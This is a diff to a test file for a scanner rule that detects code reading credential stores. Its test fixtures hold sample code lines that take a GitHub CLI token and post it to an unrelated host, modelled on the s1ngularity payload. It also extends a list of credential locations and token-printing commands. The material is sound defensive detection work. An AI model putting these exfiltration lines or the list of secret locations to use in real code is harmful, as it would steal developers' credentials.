@@ -67,6 +67,18 @@ describe('credential-store-read', () => {
   });
 });
 
+describe('credential-store-read: commands that print a stored credential', () => {
+  it('reports gh auth token (and gcloud, az, git credential fill) sent to a host of another service, as the s1ngularity payload did', () => {
+    expect(at('src/telemetry.js', ["const token = execSync('gh auth token').toString().trim();", "fetch('https://telemetry.build-insights.dev/t', { method: 'POST', body: JSON.stringify({ token }) });"])).toMatchObject({ severity: 'high', line: 2 });
+    expect(at('tools/sync.py', ['t = subprocess.check_output(["gh", "auth", "token"], text=True)', 'requests.post("https://sync.devtools-cdn.net/v1", data=t)'])).toMatchObject({ severity: 'high' });
+  });
+
+  it('leaves alone the CLI token used with its own service, or with no host the code names', () => {
+    expect(at('scripts/release.js', ["const token = execSync('gh auth token').toString().trim();", "await fetch('https://api.github.com/graphql', { method: 'POST', headers: { authorization: `bearer ${token}` }, body: query });"])).toBeUndefined();
+    expect(at('src/auth.ts', ["const token = execFileSync('gh', ['auth', 'token']).toString().trim();", "return fetch(endpoint, { method: 'POST', headers: { authorization: `bearer ${token}` }, body });"])).toBeUndefined();
+  });
+});
+
 describe('credential-store-read across files', () => {
   const scan = (files: SnapshotFile[]) =>
     scanCodeChanges(makeSnapshot({ title: 'Improve startup', files, commits: [makeCommit({ message: 'Improve startup' })] }), (path) => classifier.info(path)).filter((f) => f.id === 'credential-store-read');
@@ -94,7 +106,7 @@ describe('credential-store-read across files', () => {
 
 describe('credential-store-read: the line hint', () => {
   it('lets through every store the patterns know (a store the hint missed would never be read)', async () => {
-    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ'];
+    const samples = ['~/.ssh/id_rsa', '~/.ssh/authorized_keys', '.aws/credentials', '~/.npmrc', '~/.pypirc', '~/.netrc', '~/.git-credentials', '.docker/config.json', '.kube/config', '~/.gnupg', '.cargo/credentials', '.gem/credentials', 'gh/hosts.yml', 'application_default_credentials.json', 'accessTokens.json', 'msal_token_cache.json', '/etc/shadow', '.bash_history', 'Login Data', 'wallet.dat', '.electrum', 'Exodus/exodus.wallet', 'Ethereum/keystore', 'solana/id.json', 'nkbihfbeogaeaoehlefnkodbefgpgknn', '/proc/self/environ', 'gh auth token', 'gcloud auth print-access-token', 'az account get-access-token', 'git credential fill'];
     for (const sample of samples) {
       const line = `const p = read("${sample}");`;
       expect(credentialStoresOn(line), sample).not.toEqual([]);
